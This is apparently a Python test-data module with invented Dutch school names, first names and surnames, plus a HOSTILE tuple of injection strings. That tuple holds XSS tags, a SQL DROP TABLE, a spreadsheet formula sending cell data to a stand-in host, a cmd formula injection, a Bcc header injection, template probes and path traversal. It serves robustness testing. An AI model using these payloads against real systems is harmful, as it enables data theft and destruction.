"""Names that nobody can take for a real person or school, and names that attack whoever prints them."""

import random

SCHOOLS = (
    ("PAP", "Basisschool De Papieren Boot"),
    ("VLI", "Basisschool De Verzonnen Vlieger"),
    ("KIK", "Basisschool De Glazen Kikker"),
    ("WOL", "Basisschool De Wollen Wolk"),
    ("TOV", "Basisschool De Toverlantaarn van Karton"),
    ("ZEE", "Basisschool Het Zeepaardje met Pet"),
    ("KOM", "Basisschool De Komkommerkomeet"),
    ("DRA", "Basisschool De Draadloze Draak"),
    ("MAA", "Basisschool De Maankaas"),
    ("STO", "Basisschool Het Stoepkrijtkasteel"),
    ("PAN", "Basisschool De Pannenkoekplaneet"),
    ("REG", "Basisschool De Regenlaars"),
    ("FLU", "Basisschool De Fluisterfluit"),
    ("KNO", "Basisschool Het Knopendoosje"),
    ("SPR", "Basisschool De Springveer"),
    ("LUC", "Basisschool Het Luchtkasteel"),
    ("BEL", "Basisschool De Bellenblazer"),
    ("TRA", "Basisschool De Trampolinetrein"),
    ("HOE", "Basisschool De Hoedenplank"),
    ("NER", "Basisschool Nergenshuizen"),
    ("WIN", "Basisschool De Windvanger"),
    ("PIN", "Basisschool De Pinguïn op Rolschaatsen"),
    ("CON", "Basisschool De Confettikanonnier"),
    ("TRE", "Basisschool De Treinwagon vol Thee"),
    ("SLA", "Basisschool De Slaperige Slinger"),
    ("MUZ", "Basisschool De Muziekmuis"),
    ("KAR", "Basisschool Het Kartonnen Kompas"),
    ("ZON", "Basisschool De Zonnebloempit"),
    ("VUU", "Basisschool De Vuurtoren op Zolder"),
    ("BRI", "Basisschool De Brievenbusbrug"),
    ("GIE", "Basisschool De Gieter"),
    ("LIM", "Basisschool De Limonadeboom"),
    ("RAK", "Basisschool De Raket van Rietjes"),
    ("SOK", "Basisschool De Sokkenla"),
    ("EGE", "Basisschool De Egel met Bril"),
    ("HAN", "Basisschool De Handschoen"),
    ("IJS", "Basisschool De IJsschots"),
    ("JAS", "Basisschool De Jaszak"),
    ("KWA", "Basisschool De Kwartelwiek"),
    ("LAD", "Basisschool Het Laddertje"),
    ("MOL", "Basisschool De Molshoop"),
    ("NEV", "Basisschool De Nevelhoorn"),
    ("OLI", "Basisschool De Olifant in de Lift"),
    ("POT", "Basisschool De Potloodvulkaan"),
    ("QUI", "Basisschool Het Quizkonijn"),
    ("RUI", "Basisschool De Ruimtefiets"),
    ("SCH", "Basisschool De Schaduwvanger"),
    ("TIN", "Basisschool Het Tinnen Tuitje"),
    ("UIL", "Basisschool De Uil met Oorwarmers"),
    ("VER", "Basisschool De Verrekijker van Verf"),
    ("WAT", "Basisschool De Watermeloenboot"),
    ("XYL", "Basisschool De Xylofoon"),
    ("YET", "Basisschool De Yeti op Sokken"),
    ("ZAK", "Basisschool De Zaklantaarn"),
    ("ALP", "Basisschool De Alpaca"),
    ("BOT", "Basisschool De Boterbloemberg"),
    ("CIR", "Basisschool De Circuskoffer"),
    ("DUI", "Basisschool De Duikboot van Deeg"),
    ("ETA", "Basisschool De Etalagepop"),
    ("FIE", "Basisschool De Fietsbeltoren"),
)

FIRST = (  # noqa: SIM905  one name a line tells a reader no more
    "Anna Bram Chris Dewi Eva Fenna Gijs Hanna Imre Jip Kaat Lars Mila Niek Oda Pleun Quirijn Roos Sem Teun "
    "Ukke Vera Wout Xandra Yara Zeger Aylin Bilal Chaima Daan Esmée Farid Gül Hidde Ilse Joël Kees Loïs Mees "
    "Noor Omar Pien Rayan Saar Thijs Ursula Vince Wies Yusuf Zoë"
).split()

SURNAMES = (
    "van Verzinsel",
    "Bedenksel",
    "de Fantasie",
    "Papierwolk",
    "van Nergenshuizen",
    "Luchtkasteel",
    "Sprookjesman",
    "de Verzonnene",
    "Droomwever",
    "van Inktvlek",
    "Hersenspinsel",
    "Potloodman",
    "van der Waan",
    "Zeepbelle",
    "Confettistra",
    "ter Verbeelding",
    "Knikkerzak",
    "Duimzuiger",
    "van Stoepkrijt",
    "Schijnman",
    "Kwinkslag",
    "de Mythe",
    "Bordkarton",
    "Wolkenridder",
    "Fopspeen",
    "van Doenalsof",
    "Plakbandstra",
    "Kartonsma",
    "Schimmenspel",
    "van Eikenlucht",
)

HOSTILE = (
    '<script>alert("naam")</script>',
    '=HYPERLINK("https://verzonnen.example/?x="&A1;"klik hier")',
    "\u202egnirpsnaV \u202cvan Verzinsel",
    "Regel een\nBcc: buit@verzonnen.example",
    "Eindeloos " * 24 + "Lang",
    "🦄 Ünïcødé 👩‍🏫 Bedenksel",
    "{{7*7}} ${7*7} {0.__class__}",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE account; --",
    "+SUM(1+1)*cmd|'/c rekenmachine'!A0",
    "@SUM(A1:A9)",
    "../../etc/verzonnen",
)


def full_name(rng: random.Random) -> tuple[str, str]:
    """A first name and a surname."""
    return rng.choice(FIRST), rng.choice(SURNAMES)


def mail_part(text: str) -> str:
    """The name as it stands before the @: plain letters without spaces."""
    plain = text.lower().translate(str.maketrans("éëïöüø", "eeioou"))
    return plain.replace(" ", "")
